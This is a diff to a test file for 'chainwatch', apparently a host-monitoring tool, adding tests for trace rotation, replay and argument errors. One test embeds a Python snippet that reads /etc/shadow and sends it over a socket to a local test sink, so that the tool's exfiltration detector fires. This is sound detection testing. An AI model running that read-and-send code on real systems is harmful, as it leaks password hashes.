@@ -67,6 +67,37 @@ describe('chainwatch watch (the real binary)', () => {
     expect(TraceHeader.parse(JSON.parse(lines(trace)[0]!)).start_time).not.toBe(TraceHeader.parse(JSON.parse(first.trace[0]!)).start_time);
   });
 
+  it('--record-rotate: segments of about the size asked, each starting with the state; replayed in order they give what the watch found live, a later one alone knows every process', async () => {
+    const dir = mkdtempSync(join(tmpdir(), 'cw-cli-rotate-'));
+    const trace = join(dir, 'host.trace.jsonl.gz');
+    const findings = join(dir, 'findings.jsonl');
+    // the secret is read first, ~5 MB of benign file reads follow, then it is sent: the chain spans segments
+    const py = `s = open('/etc/shadow').read()
+for i in range(9000):
+    open('/etc/hostname').read()
+import socket
+c = socket.create_connection(('127.0.0.2', ${sink.port}))
+c.sendall(s.encode())
+c.close()`;
+    const r = cli(['watch', '--findings', findings, '--record', trace, '--record-rotate', '1M', '--', 'python3', '-c', py]);
+    expect(r.status, r.stderr).toBe(0);
+    const done = r.stderr.split('\n').filter(Boolean).map((l) => JSON.parse(l) as { msg?: string; summary?: { recorded?: { events: number; segments: number } } }).find((l) => l.msg === 'done')!;
+    const segments = done.summary!.recorded!.segments;
+    expect(segments).toBeGreaterThanOrEqual(3);
+    const files = [...Array.from({ length: segments - 1 }, (_, i) => join(dir, `host.${i + 1}.trace.jsonl.gz`)), trace];
+    for (const f of files) expect(existsSync(f), f).toBe(true);
+    const live = readFileSync(findings, 'utf8').split('\n').filter(Boolean).map((l) => JSON.parse(l) as { id: string; rule: string });
+    expect(live.some((f) => f.rule === 'exfil.read-then-transmit')).toBe(true);
+    const replayed = cli(['replay', '--findings', '-', ...files]);
+    expect(replayed.status, replayed.stderr).toBe(0);
+    const again = replayed.stdout.split('\n').filter(Boolean).map((l) => JSON.parse(l) as { id: string; rule: string });
+    expect(new Set(again.map((f) => f.id))).toEqual(new Set(live.map((f) => f.id)));
+    const alone = cli(['replay', '--findings', '-', trace]);
+    expect(alone.status, alone.stderr).toBe(0);
+    const summary = alone.stderr.split('\n').filter(Boolean).map((l) => JSON.parse(l) as { msg?: string; traces?: { unknown_processes: number }[] }).find((l) => l.msg === 'done');
+    expect(summary?.traces?.[0]?.unknown_processes).toBe(0);
+  }, 120_000);
+
   it('bad input gets a clear one-line error and exit code 2, never a stack trace', () => {
     const r = cli(['watch', '--pid', '999999999']);
     expect(r.status).toBe(2);
@@ -80,5 +111,11 @@ describe('chainwatch watch (the real binary)', () => {
     expect(cg.stderr).toContain('does not exist');
     const bad = cli(['watch', '--duration', 'soon']);
     expect(bad.status).toBe(2);
+    const size = cli(['watch', '--record', '/tmp/x.jsonl', '--record-rotate', '10K']);
+    expect(size.status).toBe(2);
+    expect(size.stderr).toContain('--record-rotate must be a size of at least 1M');
+    const keep = cli(['watch', '--record-keep', '3']);
+    expect(keep.status).toBe(2);
+    expect(keep.stderr).toContain('--record-rotate and --record-keep need --record FILE');
   });
 });
